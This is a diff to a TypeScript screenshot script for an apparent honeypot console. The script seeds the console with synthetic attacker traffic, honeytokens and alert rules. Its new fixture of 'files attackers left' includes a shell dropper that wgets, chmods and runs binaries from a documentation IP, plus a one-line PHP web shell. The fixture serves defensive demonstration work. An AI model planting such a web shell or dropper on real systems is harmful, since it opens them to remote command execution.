@@ -5,6 +5,7 @@
 import { cpSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
+import { gzipSync } from 'node:zlib'
 import { pino } from 'pino'
 import { type Browser, chromium, type Page } from 'playwright-core'
 import { annotatorOf } from '../../src/analysis/annotator.ts'
@@ -12,10 +13,11 @@ import { Geo } from '../../src/analysis/geo.ts'
 import { Identity } from '../../src/config/identity.ts'
 import { loadPersona } from '../../src/config/personas.ts'
 import { Settings } from '../../src/config/schema.ts'
-import { type Console, startConsole } from '../../src/console/console.ts'
+import type { Console } from '../../src/console/console.ts'
 import type { SundewEvent } from '../../src/events/schema.ts'
 import { uuid7 } from '../../src/events/uuid7.ts'
 import { HoneytokenMint } from '../../src/host/honeytokens/mint.ts'
+import { Instance, planOf } from '../../src/instance.ts'
 import { Lab } from '../../src/lab/lab.ts'
 import { openStores, type Stores } from '../../src/store/open.ts'
 import { VERSION } from '../../src/version.ts'
@@ -84,6 +86,16 @@ function* moreEvents(now: number): Generator<SundewEvent> {
   yield sampleEvent({ ...http, type: 'turn', data: { kind: 'web', input, output, source: 'cache', durationMs: 3, detail } })
 }
 
+/** Files that attackers left, by name. */
+const FILES: Readonly<Record<string, Buffer>> = {
+  'bins.sh': Buffer.from(
+    '#!/bin/sh\ncd /tmp || cd /var/run\nfor a in x86 mips arm7; do wget http://203.0.113.9/$a; chmod +x $a; ./$a; done\n',
+  ),
+  'bot.x86_64': Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(48_712, 0x90)]),
+  'shell.php': Buffer.from('<?php @system($_GET["c"]); ?>\n'),
+  'dump.tar.gz': gzipSync(Buffer.alloc(300_000, 'customers;')),
+}
+
 /** Pages by the name of their picture. */
 const PAGES: Readonly<Record<string, string>> = {
   overview: '/',
@@ -118,6 +130,13 @@ async function fill(stores: Stores, lab: Lab, identity: Identity): Promise<void>
   const keep = (event: SundewEvent): void => stores.events.append(event)
   for (const events of trafficOf({ seed: 7, sessions: 1_500, since: now - 47 * HOUR, until: now - 30_000 })) events.forEach(keep)
   for (const event of moreEvents(now)) keep({ ...event, sensor: settings.sensor })
+  for (const [name, bytes] of Object.entries(FILES)) {
+    for (let times = name.length; times > 0; times--) {
+      const data = { ...stores.artifacts.put(bytes), name, how: 'wget', url: `http://203.0.113.9/${name}` }
+      const time = now - (name.length + times * 17) * 60_000
+      keep(sampleEvent({ sensor: settings.sensor, session: uuid7(), lure: 'ssh', srcIp: '218.92.0.31', type: 'artifact', time, data }))
+    }
+  }
   const mint = HoneytokenMint.of({ identity, state: stores.state })
   const place = { kind: 'password', name: 'tw_portal', owner: 'debian-web', place: '/var/www/portal/.env' } as const
   for (const ip of ['45.148.10.77', '61.177.172.12', '218.92.0.31']) mint.mint(place, ip)
@@ -207,6 +226,7 @@ async function take(browser: Browser, operators: Console): Promise<void> {
     await logIn(page, colorScheme === 'dark' ? (operators.setUpLink as string) : operators.url)
     for (const [name, path] of Object.entries(PAGES)) {
       await open(page, operators.url + path)
+      if (name === 'live') await page.waitForTimeout(8_000)
       if (name === 'session-replay') await page.waitForTimeout(4_000)
       await page.screenshot({ path: join(target, `${name}-${colorScheme}.png`) })
     }
@@ -214,15 +234,32 @@ async function take(browser: Browser, operators: Console): Promise<void> {
   }
 }
 
+/** Visitors of now, a session every half second, for the map and the alerts. */
+function visit({ bus }: Instance): NodeJS.Timeout {
+  const now = Date.now()
+  const visits = trafficOf({ seed: 11, sessions: 2_000, since: now, until: now + 60_000 })
+  return setInterval(() => {
+    const next = visits.next()
+    if (!next.done) for (const { time: _then, ...event } of next.value) bus.publish(event)
+  }, 500)
+}
+
 const server = await fakeModelServer({
   script: (asked) => shellText(asked.system.includes('Start with the output') ? 'nginx version: nginx/1.22.1\n' : 'nginx: as you asked\n'),
 })
-cpSync('prompts/debian-web', join(folder, 'prompts', 'debian-web'), { recursive: true })
+cpSync('prompts', join(folder, 'prompts'), { recursive: true })
 const settings = Settings.parse({
   data: folder,
   prompts: join(folder, 'prompts'),
+  listen: { host: '127.0.0.1', offset: 15_000 },
   console: { port: 0 },
   llm: { model: 'qwen3:4b-instruct', backends: [{ kind: 'ollama', url: server.url }] },
+  alerts: {
+    rules: [
+      { name: 'hands-on', when: 'lure:ssh and turns > 3', group: 'src_ip', count: 1, window: '1h', coolDown: '6h', to: [] },
+      { name: 'file-dropped', when: 'artifacts > 0', group: 'src_ip', count: 2, window: '1h', coolDown: '6h', to: [] },
+    ],
+  },
 })
 const geo = Geo.open(join(folder, 'geo'))
 const stores = openStores(settings, log, annotatorOf(geo))
@@ -230,27 +267,18 @@ const identity = Identity.open(folder)
 const persona = (name: string) => loadPersona(settings.prompts, name, identity)
 const lab = new Lab({ settings, identity, log, state: stores.state, store: () => stores.events, persona })
 await fill(stores, lab, identity)
-const operators = await startConsole({
-  settings,
-  lab,
-  store: () => stores.events,
-  artifacts: stores.artifacts,
-  state: stores.state,
-  geo,
-  feed: { subscribe: () => () => undefined },
-  doctor: async () => [],
-  personas: () => [persona('debian-web')],
-  log,
-})
+await stores.close()
+const instance = await Instance.start(planOf({ settings, file: undefined, lineOf: () => undefined }), log)
+const visitors = visit(instance)
 mkdirSync(target, { recursive: true })
 const browser = await chromium.launch({ executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium', args: ['--no-sandbox'] })
 try {
-  await take(browser, operators)
-  await takeOnPhone(browser, operators)
+  await take(browser, instance.console as Console)
+  await takeOnPhone(browser, instance.console as Console)
 } finally {
+  clearInterval(visitors)
   await browser.close()
-  await operators.close()
-  await stores.close()
+  await instance.stop('pictures are taken')
   await server.close()
   rmSync(folder, { recursive: true, force: true })
 }
